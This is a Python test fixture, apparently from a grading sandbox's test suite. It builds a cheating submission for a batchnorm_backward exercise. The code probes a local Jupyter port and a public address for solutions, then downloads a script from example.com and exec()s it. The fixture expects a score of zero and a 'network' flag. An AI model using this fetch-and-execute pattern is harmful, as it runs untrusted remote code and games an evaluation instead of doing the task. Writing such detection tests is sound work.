"""Network access: batchnorm_backward's cell tries to fetch a solution over HTTP, to reach a
service on the grading machine's loopback (a Jupyter server on 127.0.0.1:8888) and a public
address, and falls back to a wrong guess when none answers.

The sandbox has a network namespace of its own with nothing in it: every attempt fails at once,
the guess is graded, batchnorm_backward gets 0. Flagged: uses the network.
"""

from __future__ import annotations

from ._build import guess, submission, write

GID = "batchnorm_backward_answer"

FETCH = """\
import socket
import urllib.request

_fetched = None
for _host, _port in (("127.0.0.1", 8888), ("1.1.1.1", 80)):
    try:
        with socket.create_connection((_host, _port), timeout=2) as _conn:
            _conn.sendall(b"GET /solutions HTTP/1.0\\r\\n\\r\\n")
    except OSError:
        pass
try:
    _fetched = urllib.request.urlopen("http://example.com/bn_backward.py", timeout=2).read()
except Exception:
    pass

"""


def build(dest):
    source = FETCH + guess("batchnorm_backward") + "\n\nif _fetched:\n    exec(_fetched)\n"
    write(submission({GID: source}), dest)


EXPECTED = {"batchnorm_backward": 0}
FLAG = "network"
NOTE = None
